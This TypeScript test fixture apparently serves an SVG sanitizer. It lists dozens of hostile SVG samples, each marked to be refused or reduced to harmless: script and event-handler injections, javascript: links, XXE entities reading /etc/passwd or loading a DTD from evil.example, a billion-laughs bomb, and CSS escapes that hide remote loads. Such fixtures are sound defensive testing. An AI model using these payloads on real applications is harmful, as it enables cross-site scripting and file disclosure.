/** Malicious drawings, each wrapped in the usual root tag unless it has its own. */
export interface HostileDrawing {
  what: string;
  text: string | Uint8Array;
  /** The result: a finding, or a drawing without the harmful part. */
  becomes: 'refused' | 'harmless';
}

const first =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:s="http://www.w3.org/2000/svg" xmlns:x="urn:x">';
const wrapped = (inner: string) => `${first}${inner}</svg>`;
const html = (inner: string) =>
  wrapped(
    `<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">${inner}</div></foreignObject>`,
  );

const refused: Record<string, string | Uint8Array> = {
  'a script': wrapped('<script>alert(1)</script>'),
  'a script in capitals': wrapped('<SCRIPT>alert(1)</SCRIPT>'),
  'a script in CDATA': wrapped('<script><![CDATA[alert(1)]]></script>'),
  'a script of a prefix of SVG': wrapped('<s:script>alert(1)</s:script>'),
  'a script of a prefix of XHTML': wrapped('<h:script>alert(1)</h:script>'),
  'a script that names its namespace': wrapped(
    '<q:script xmlns:q="http://www.w3.org/1999/xhtml">alert(1)</q:script>',
  ),
  'a script from elsewhere': wrapped('<script href="https://evil.example/a.js"/>'),
  'a script within metadata': wrapped('<metadata><script>alert(1)</script></metadata>'),
  'a script within an element of an editor': wrapped('<x:a><h:script>alert(1)</h:script></x:a>'),
  'a script of SVG Tiny': wrapped('<handler type="text/javascript">alert(1)</handler>'),
  'a listener': wrapped('<listener event="load" handler="#a"/>'),
  'what runs when it is loaded': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'what runs when it is clicked': wrapped('<rect onclick="alert(1)"/>'),
  'an event in mixed case': wrapped('<rect oNmOuSeOvEr="alert(1)"/>'),
  'an event of an animation': wrapped('<animate onbegin="alert(1)" attributeName="x"/>'),
  'an event over two lines': wrapped('<rect\nonclick\n=\n"alert(1)"/>'),
  'an event that nobody knows': wrapped('<rect onwhatever="alert(1)"/>'),
  'a link that runs': wrapped('<a href="javascript:alert(1)"><text>A</text></a>'),
  'an older link that runs': wrapped('<a xlink:href="javascript:alert(1)"><text>A</text></a>'),
  'an older link of another prefix': wrapped(
    '<a xmlns:z="http://www.w3.org/1999/xlink" z:href="javascript:alert(1)"/>',
  ),
  'a link veiled by numbers': wrapped('<a href="&#106;&#x61;vascript:alert(1)"/>'),
  'a link veiled by a tab': wrapped('<a href="java&#9;script:alert(1)"/>'),
  'a link veiled by a line break': wrapped('<a href="java&#10;script:alert(1)"/>'),
  'a link veiled by a space before it': wrapped('<a href="&#160; javascript:alert(1)"/>'),
  'a link veiled by case': wrapped('<a href="JaVaScRiPt:alert(1)"/>'),
  'a link of another language': wrapped('<a href="vbscript:msgbox(1)"/>'),
  'a link to a page written out': wrapped('<a href="data:text/html,%3Cscript%3E"/>'),
  'a link to a drawing written out': wrapped('<a href="data:image/svg+xml,%3Csvg/%3E"/>'),
  'a use of what is elsewhere': wrapped('<use href="https://evil.example/a.svg#b"/>'),
  'a use of a file beside it': wrapped('<use xlink:href="other.svg#b"/>'),
  'a use of a drawing written out': wrapped('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'),
  'a picture from elsewhere': wrapped('<image href="https://evil.example/a.png"/>'),
  'a picture by no protocol': wrapped('<image href="//evil.example/a.png"/>'),
  'a picture of the disk': wrapped('<image xlink:href="file:///etc/passwd"/>'),
  'a picture that is a drawing with a script': wrapped(
    '<image href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4="/>',
  ),
  'a picture that is a drawing with a handler, written out': wrapped(
    '<image href="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/%3E"/>',
  ),
  'a picture that is no drawing': wrapped('<image href="data:image/svg+xml;base64,YQ=="/>'),
  'drawings in one another': wrapped(
    '<image href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxpbWFnZSBocmVmPSJkYXRhOmltYWdlL3N2Zyt4bWw7YmFzZTY0LFBITjJaeUI0Yld4dWN6MGlhSFIwY0RvdkwzZDNkeTUzTXk1dmNtY3ZNakF3TUM5emRtY2lQanhwYldGblpTQm9jbVZtUFNKa1lYUmhPbWx0WVdkbEwzTjJaeXQ0Yld3N1ltRnpaVFkwTEZCSVRqSmFlVUkwWWxkNGRXTjZNR2xoU0ZJd1kwUnZka3d6WkROa2VUVXpUWGsxZG1OdFkzWk5ha0YzVFVNNWVtUnRZMmxRYW5od1lsZEdibHBUUW05amJWWnRVRk5LYTFsWVVtaFBiV3gwV1Zka2JFd3pUakphZVhRMFlsZDNOMWx0Um5wYVZGa3dURVpDU1ZScVNtRmxWVWt3V1d4a05HUlhUalpOUjJ4b1UwWkpkMWt3VW5aa2EzZDZXa1JPYTJWVVZYcFVXR3N4WkcxT2RGa3pXazVoYTBZelZGVk5OV1Z0VW5SWk1teE5aV3BST1VscE9DdFFRemw2Wkcxakt5SXZQand2YzNablBnPT0iLz48L3N2Zz4="/>',
  ),
  'a picture that is a page': wrapped('<image href="data:text/html;base64,PGI+"/>'),
  'a filter that loads': wrapped('<filter><feImage href="https://evil.example/a"/></filter>'),
  'a gradient from elsewhere': wrapped('<linearGradient href="https://evil.example/a.svg#b"/>'),
  'a text along a path from elsewhere': wrapped(
    '<text><textPath href="a.svg#b">A</textPath></text>',
  ),
  'a frame within': html('<iframe src="https://evil.example/"/>'),
  'a frame of written text': html('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
  'a script within HTML': html('<script>alert(1)</script>'),
  'an event within HTML': html('<p onmouseover="alert(1)">A</p>'),
  'a picture within HTML that fails': html('<img src="x" onerror="alert(1)"/>'),
  'a picture within HTML from elsewhere': html('<img src="https://evil.example/a.png"/>'),
  'a form': html('<form action="https://evil.example/"><input name="a"/></form>'),
  'a button that submits': html('<button formaction="javascript:alert(1)">A</button>'),
  'an object': html('<object data="https://evil.example/"/>'),
  'an embedded file': html('<embed src="https://evil.example/"/>'),
  'a page that goes elsewhere': html(
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"/>',
  ),
  'a base': html('<base href="https://evil.example/"/>'),
  'a style sheet that is linked': html(
    '<link rel="stylesheet" href="https://evil.example/a.css"/>',
  ),
  'a film': html('<video src="https://evil.example/a"/>'),
  'a link within HTML that runs': html('<a href="javascript:alert(1)">A</a>'),
  'a link changed by setting': wrapped(
    '<a><set attributeName="href" to="javascript:alert(1)"/></a>',
  ),
  'an older link changed by an animation': wrapped(
    '<a><animate attributeName="xlink:href" values="javascript:alert(1)"/></a>',
  ),
  'an event changed by setting': wrapped(
    '<rect><set attributeName="onclick" to="alert(1)"/></rect>',
  ),
  'a style sheet before it': `<?xml-stylesheet href="https://evil.example/a.css"?>${wrapped('')}`,
  'a transformation before it': `<?xml-stylesheet type="text/xsl" href="#a"?>${wrapped('')}`,
  'an entity': `<!DOCTYPE svg [<!ENTITY a "b">]>${wrapped('&a;')}`,
  'a billion laughs': `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${wrapped('&c;')}`,
  'an entity of the disk': `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${wrapped('<text>&a;</text>')}`,
  'an entity of a parameter': `<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>${wrapped('')}`,
  'attributes by default': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${wrapped('')}`,
  'an entity that is not declared': wrapped('<text>&nbsp;</text>'),
  'a drawing that is compressed': new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]),
  'a drawing in UTF-16': Buffer.from(`\uFEFF${wrapped('<script/>')}`, 'utf16le'),
  'a drawing in UTF-16 without a mark': Buffer.from(wrapped('<script/>'), 'utf16le'),
  'bytes that are no UTF-8': Buffer.from(wrapped('<text>\xff\xfe</text>'), 'latin1'),
  'a NUL byte in a tag': wrapped('<scr\0ipt>alert(1)</scr\0ipt>'),
  'a NUL byte before it': `\0${wrapped('')}`,
  'groups in one another, 100,000 deep': wrapped('<g>'.repeat(100_000) + '</g>'.repeat(100_000)),
  'a tag that does not end': `${first}<rect`,
  'tags that overlap': wrapped('<g><a></g></a>'),
  'two drawings': `${wrapped('')}<svg onload="alert(1)"/>`,
  'an attribute twice': wrapped('<rect x="1" x="2"/>'),
  'a page': '<html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>',
  'a page that begins like a drawing': '<svg xmlns="http://www.w3.org/1999/xhtml"><p/></svg>',
  'copies of copies': wrapped(
    Array.from(
      { length: 12 },
      (_, at) => `<g id="a${at}">${`<use href="#a${at + 1}"/>`.repeat(10)}</g>`,
    ).join(''),
  ),
};

const harmless: Record<string, string> = {
  'a style sheet that imports': wrapped('<style>@import "https://evil.example/a.css";</style>'),
  'a style sheet that imports by an address': wrapped(
    '<style>@import url(https://evil.example/a);</style>',
  ),
  'a style sheet that loads': wrapped(
    '<style>rect { fill: url(https://evil.example/a#b) }</style>',
  ),
  'a style sheet that loads behind an escape': wrapped(
    String.raw`<style>rect { background: u\72l(https://evil.example/a) }</style>`,
  ),
  'a style sheet that loads behind a comment': wrapped(
    '<style>rect { background: /**/url( /**/"https://evil.example/a") }</style>',
  ),
  'a style sheet that loads one of several': wrapped(
    '<style>rect { background: image-set("https://evil.example/a" 1x) }</style>',
  ),
  'a style sheet that loads by a variable': wrapped(
    '<style>rect { --a: url(https://evil.example/a); fill: var(--a) }</style>',
  ),
  'a style sheet that loads a font': wrapped(
    '<style>@font-face { font-family: A; src: url(https://evil.example/a.woff) }</style>',
  ),
  'a style sheet that loads for print': wrapped(
    '<style>@media print { rect { fill: url("https://evil.example/a") } }</style>',
  ),
  'a style sheet that runs': wrapped(
    '<style>rect { width: expression(alert(1)); behavior: url(#a.htc) }</style>',
  ),
  'a style sheet in CDATA that ends early': wrapped(
    '<style><![CDATA[</style><script>alert(1)</script>]]></style>',
  ),
  'a style sheet of brackets alone': wrapped(`<style>${'{'.repeat(100_000)}</style>`),
  'a style sheet of another language': wrapped(
    '<style type="text/x">a { b: url(//evil.example) }</style>',
  ),
  'a style that loads': wrapped('<rect style="fill: url(https://evil.example/a)"/>'),
  'a style of HTML that loads': html('<p style="background: url(//evil.example/a)">A</p>'),
  'a fill from elsewhere': wrapped('<rect fill="url(https://evil.example/a.svg#b)"/>'),
  'a fill behind an escape': wrapped(String.raw`<rect fill="u\72l(https://evil.example/a)"/>`),
  'a fill behind an escape that takes the space after it': wrapped(
    String.raw`<rect fill="ur\6c (https://evil.example/a)"/>`,
  ),
  'a style behind such an escape': wrapped(
    String.raw`<rect style="fill: ur\6c (https://evil.example/a)"/>`,
  ),
  'a style sheet whose import hides in a value': wrapped(
    '<style>a{--b:"\n@import "https://evil.example/a";}</style>',
  ),
  'a style sheet of brackets in a value': wrapped(`<style>a{b:${'('.repeat(100_000)}</style>`),
  'a style sheet of brackets in a selector': wrapped(
    `<style>${':not('.repeat(100_000)}a{b:c}</style>`,
  ),
  'a mask from elsewhere': wrapped('<rect mask="URL(&quot;https://evil.example/a&quot;)"/>'),
  'a pointer from elsewhere': wrapped('<rect cursor="url(https://evil.example/a.cur), auto"/>'),
  'an animation towards what is elsewhere': wrapped(
    '<rect><animate attributeName="fill" values="url(https://evil.example/a)"/></rect>',
  ),
  'an animation of a style': wrapped(
    '<rect><set attributeName="style" to="fill:url(//evil.example)"/></rect>',
  ),
  'a base of XML':
    '<svg xmlns="http://www.w3.org/2000/svg" xml:base="https://evil.example/"><use href="#a"/></svg>',
  'a link to another place of the disk': wrapped('<a href="file:///etc/passwd"/>'),
  'a link to an application': wrapped('<a href="ms-msdt:/id"/>'),
  'an element of an editor': wrapped('<x:script>alert(1)</x:script>'),
  'a comment that looks like markup': wrapped('<!-- <script>alert(1)</script> -->'),
  'text that looks like markup': wrapped('<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>'),
  'CDATA that looks like markup': wrapped('<text><![CDATA[<script>alert(1)</script>]]></text>'),
  'an attribute that looks like markup': wrapped(
    '<path d="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>',
  ),
  'a title that looks like markup': wrapped('<title>&lt;/title&gt;&lt;script&gt;</title>'),
  'another processing instruction': `<?php echo 1 ?>${wrapped('<?evil a?>')}`,
  'a type from elsewhere': `<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd">${wrapped('')}`,
  'words of UTF-7': `<?xml version="1.0" encoding="UTF-7"?>${wrapped('<text>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</text>')}`,
  'names that JavaScript knows': wrapped('<constructor/><rect __proto__="a" constructor="b"/>'),
};

export const hostileDrawings: readonly HostileDrawing[] = [
  ...Object.entries(refused).map(([what, text]) => ({ what, text, becomes: 'refused' }) as const),
  ...Object.entries(harmless).map(([what, text]) => ({ what, text, becomes: 'harmless' }) as const),
];
